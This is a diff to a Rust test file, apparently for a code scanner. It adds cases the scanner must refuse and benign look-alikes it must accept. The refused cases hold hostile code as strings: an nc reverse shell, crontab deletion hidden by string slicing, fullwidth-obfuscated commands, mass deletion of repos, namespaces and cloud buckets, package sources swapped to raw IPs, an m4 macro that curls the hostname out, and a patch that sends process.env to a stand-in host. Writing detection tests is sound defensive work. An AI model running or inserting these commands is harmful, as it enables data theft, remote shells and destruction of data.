@@ -2751,6 +2751,83 @@ fn precompiled_rules_match_as_their_regexes_do() {
     "names-start-up-file",
     3
 )]
+#[case::sh_network_tool_named_by_a_variable(
+    crate::Lang::Bash,
+    "P=nc\n$P 203.0.113.5 4444 -e /bin/sh\n",
+    Verdict::Major,
+    "run-network-tool",
+    2
+)]
+#[case::sh_program_sliced_out_of_a_text(
+    crate::Lang::Bash,
+    "U=\"use: crontab -l\"\n${U:5:7} -r\n",
+    Verdict::Major,
+    "run-system-tool",
+    2
+)]
+#[case::ts_argv_in_fullwidth_letters_folded(
+    crate::Lang::TypeScript,
+    "import { spawn } from \"node:child_process\";\nconst L = { v: \"\u{ff54}\u{ff54}\u{ff59}\u{ff44}\", s: \"\u{ff42}\u{ff41}\u{ff53}\u{ff48}\" };\nconst norm = (s: string) => s.normalize(\"NFKC\");\nspawn(norm(L.v), [norm(L.s)]);\n",
+    Verdict::Major,
+    "folds-hidden-text",
+    2
+)]
+#[case::py_repository_deleted_through_a_wrapper(
+    crate::Lang::Python,
+    "import subprocess\n\ndef gh(*args):\n    return subprocess.run([\"gh\", *args], check=True)\n\nfor name in names:\n    gh(\"api\", \"--method\", \"DELETE\", f\"repos/{name}\")\n",
+    Verdict::Major,
+    "deletes-remote-data",
+    7
+)]
+#[case::ts_namespaces_deleted_through_a_wrapper(
+    crate::Lang::TypeScript,
+    "import { execFileSync } from \"node:child_process\";\nfunction kubectl(...args: string[]): string {\n  return execFileSync(\"kubectl\", args, { encoding: \"utf8\" });\n}\nfor (const ns of stale) kubectl(\"delete\", \"namespace\", ns);\n",
+    Verdict::Major,
+    "deletes-remote-data",
+    5
+)]
+#[case::sh_dvc_gc_of_the_shared_remote(
+    crate::Lang::Bash,
+    "dvc pull\ndvc gc --workspace --cloud --force\n",
+    Verdict::Major,
+    "deletes-cloud-storage",
+    2
+)]
+#[case::sh_every_object_version_deleted(
+    crate::Lang::Bash,
+    "aws s3api delete-objects --bucket \"$bucket\" --delete \"file://$tmp\"\n",
+    Verdict::Major,
+    "deletes-cloud-storage",
+    1
+)]
+#[case::ts_package_installed_from_a_tarball_url(
+    crate::Lang::TypeScript,
+    "import { execFileSync } from \"node:child_process\";\nconst T = \"http://198.51.100.73/pkgs/guard-1.4.2.tgz\";\nexecFileSync(\"npm\", [\"install\", \"--save-dev\", T]);\n",
+    Verdict::Major,
+    "changes-package-source",
+    3
+)]
+#[case::sh_cargo_patch_to_a_fork(
+    crate::Lang::Bash,
+    "cat >> Cargo.toml <<'EOF'\n[patch.crates-io]\nring = { git = \"http://198.51.100.66/ring.git\" }\nEOF\n",
+    Verdict::Major,
+    "changes-package-source",
+    2
+)]
+#[case::sh_m4_macro_running_curl(
+    crate::Lang::Bash,
+    "cat > \"$defs\" <<'M4'\ndefine([DOMAIN], esyscmd([curl -s -X POST --data-binary @/etc/hostname http://203.0.113.92/k]))dnl\nM4\nm4 \"$defs\" app.m4 > out.yaml\n",
+    Verdict::Major,
+    "holds-m4-command",
+    2
+)]
+#[case::js_dependency_patch_sending_the_environment(
+    crate::Lang::JavaScript,
+    "const { writeFileSync } = require(\"node:fs\");\nconst P = `+try { require('http').request({ host: '203.0.113.77', method: 'POST' }).end(JSON.stringify(process.env)) } catch {}`;\nwriteFileSync(\"patches/semver.patch\", P);\n",
+    Verdict::Major,
+    "holds-environment-send",
+    2
+)]
 fn blind_set_families_are_refused(
     #[case] lang: crate::Lang,
     #[case] source: &str,
@@ -2763,6 +2840,28 @@ fn blind_set_families_are_refused(
 
 /// Their look-alikes in ordinary code.
 #[rstest]
+#[case::ts_fullwidth_titles_folded(
+    crate::Lang::TypeScript,
+    "const slug = (t: string) => t.normalize(\"NFKC\").toLowerCase().replace(/\\s+/g, \"-\");\nconsole.log(slug(title));\n"
+)]
+#[case::sh_m4_macro_with_git_describe(
+    crate::Lang::Bash,
+    "cat > \"$defs\" <<'M4'\ndefine([APP_VERSION], esyscmd([git describe --tags --always | tr -d '\\n']))dnl\nM4\nm4 \"$defs\" app.m4 > ./out/app.conf\n"
+)]
+#[case::py_superscript_digits_and_nfc(
+    crate::Lang::Python,
+    "import re, unicodedata\nDEV = re.compile(\"^(?:COM[0-9\u{b9}\u{b2}\u{b3}]|LPT[0-9\u{b9}\u{b2}\u{b3}])$\")\nname = unicodedata.normalize(\"NFC\", raw)\nprint(bool(DEV.match(name)))\n"
+)]
+#[case::sh_dvc_gc_of_the_workspace(crate::Lang::Bash, "dvc gc --workspace --force\n")]
+#[case::sh_ordinary_programs_named_by_variables(
+    crate::Lang::Bash,
+    "cmd=ls\n$cmd -la\nPYTHON=python3\n\"$PYTHON\" -m pytest -q\nname=${PWD##*/}\necho \"${name:0:8}\"\n"
+)]
+#[case::py_wrapper_listing_repositories(
+    crate::Lang::Python,
+    "import subprocess\n\ndef gh(*args):\n    return subprocess.run([\"gh\", *args], check=True)\n\ngh(\"repo\", \"list\", \"--limit\", \"50\")\n"
+)]
+#[case::sh_npm_install_from_the_registry(crate::Lang::Bash, "npm install --save-dev typescript@5.9.3\nnpm i https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz\n")]
 #[case::js_join_of_words(
     crate::Lang::JavaScript,
     "const msg = [\"hello\", \"world\"].join(\" \");\nconsole.log(msg);\n"
